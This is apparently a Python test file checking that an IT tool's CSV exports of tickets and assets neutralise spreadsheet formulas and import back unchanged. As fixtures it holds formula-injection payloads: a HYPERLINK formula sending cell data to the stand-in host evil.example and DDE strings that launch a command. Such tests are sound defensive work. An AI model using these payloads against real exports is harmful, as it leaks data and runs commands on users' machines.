"""IT's ``--format csv`` listings open in a spreadsheet without running a
formula somebody typed into a ticket or an asset (core.csvsafe); the assets
import takes such a listing back with the values it had."""

from __future__ import annotations

import csv
import io
import json

from core.csvsafe import FORMULA_STARTS
from plugins.it import service as svc

EVIL_TITLE = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Drucker\")"


def _rows(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def _no_formula(text: str) -> None:
    for row in csv.reader(io.StringIO(text, newline="")):
        for cell in row:
            assert cell[:1] not in FORMULA_STARTS, row


def test_tickets_csv_neutralises_titles_and_keeps_numbers(site, office):
    bd, ctx, ids = office
    svc.open_ticket(ctx, requester=ids["anna"], title=EVIL_TITLE)
    svc.open_ticket(ctx, requester=ids["ben"], title="-2+3+cmd|' /C calc'!A0")
    svc.open_ticket(ctx, requester=ids["clara"], title="'@already quoted")
    svc.open_ticket(ctx, requester=ids["dora"], title="Printer jammed")
    r = site.cli("it", "tickets", "--format", "csv")
    assert r.returncode == 0, r.stderr
    _no_formula(r.stdout)
    rows = _rows(r.stdout)
    titles = {row["title"] for row in rows}
    assert titles == {"'" + EVIL_TITLE, "'-2+3+cmd|' /C calc'!A0", "''@already quoted", "Printer jammed"}
    assert sorted(int(row["id"]) for row in rows) == [1, 2, 3, 4]
    assert {row["requester_id"] for row in rows} == {str(i) for i in ids.values()}
    # JSON is a machine format: as stored
    r = site.cli("it", "tickets", "--format", "json")
    assert EVIL_TITLE in {row["title"] for row in json.loads(r.stdout)}


FIELDS = ("tag", "type", "model", "serial", "status", "warranty_end")


def test_assets_listing_neutralised_and_imported_back_exactly(site, office):
    bd, ctx, ids = office
    svc.add_asset(ctx, {"tag": "PC-1", "type": "computer", "model": "=cmd|' /C calc'!A0", "serial": "-12",
                        "warranty_end": "2030-01-01"})
    svc.add_asset(ctx, {"tag": "PC-2", "type": "computer", "model": "'+already", "serial": "'tis"})
    svc.add_asset(ctx, {"tag": "PC-3", "type": "printer", "model": "@Laser", "serial": "+49"})
    svc.add_asset(ctx, {"tag": "PC-4", "type": "phone", "model": "Dell U2419H", "serial": "0815"})
    before = {d["tag"]: {k: d.get(k) for k in FIELDS} for d in ctx.table("assets").all()}
    r = site.cli("it", "assets", "--format", "csv")
    assert r.returncode == 0, r.stderr
    _no_formula(r.stdout)
    rows = {row["tag"]: row for row in _rows(r.stdout)}
    assert rows["PC-1"]["model"] == "'=cmd|' /C calc'!A0" and rows["PC-1"]["serial"] == "'-12"
    assert rows["PC-2"]["model"] == "''+already" and rows["PC-2"]["serial"] == "'tis"
    assert rows["PC-3"]["model"] == "'@Laser" and rows["PC-3"]["serial"] == "'+49"
    assert rows["PC-4"]["serial"] == "0815"

    # the listing without its "holder" column is an import file: nothing changes
    listing = list(csv.reader(io.StringIO(r.stdout, newline="")))
    keep = [i for i, name in enumerate(listing[0]) if name != "holder"]
    out = io.StringIO()
    csv.writer(out).writerows([[row[i] for i in keep] for row in listing])
    result = svc.import_csv(ctx, io.StringIO(out.getvalue()))
    assert sorted(result["updated"]) == sorted(before) and result["created"] == []
    after = {d["tag"]: {k: d.get(k) for k in FIELDS} for d in ctx.table("assets").all()}
    assert after == before

    # and into an empty register, byte for byte
    with ctx.transaction():
        for table in ("asset_history", "assets"):
            for d in ctx.table(table).all():
                ctx.table(table).delete(d["id"])
    result = svc.import_csv(ctx, io.StringIO(out.getvalue()))
    assert sorted(result["created"]) == sorted(before)
    after = {d["tag"]: {k: d.get(k) for k in FIELDS} for d in ctx.table("assets").all()}
    assert after == before
